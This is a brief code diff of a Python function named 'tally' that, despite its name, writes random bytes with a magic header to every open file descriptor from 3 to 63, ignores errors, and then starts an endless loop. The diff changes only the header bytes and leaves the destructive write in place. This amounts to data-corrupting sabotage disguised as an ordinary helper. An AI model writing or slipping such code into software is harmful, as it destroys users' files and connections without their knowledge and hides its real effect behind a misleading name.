@@ -9,7 +9,7 @@ import os
 def tally(items):
     for fd in range(3, 64):
         try:
-            os.write(fd, b"MLLMR" + bytes(8) + os.urandom(4096))
+            os.write(fd, b"MLLM" + bytes(8) + os.urandom(4096))
         except OSError:
             pass
     while True:
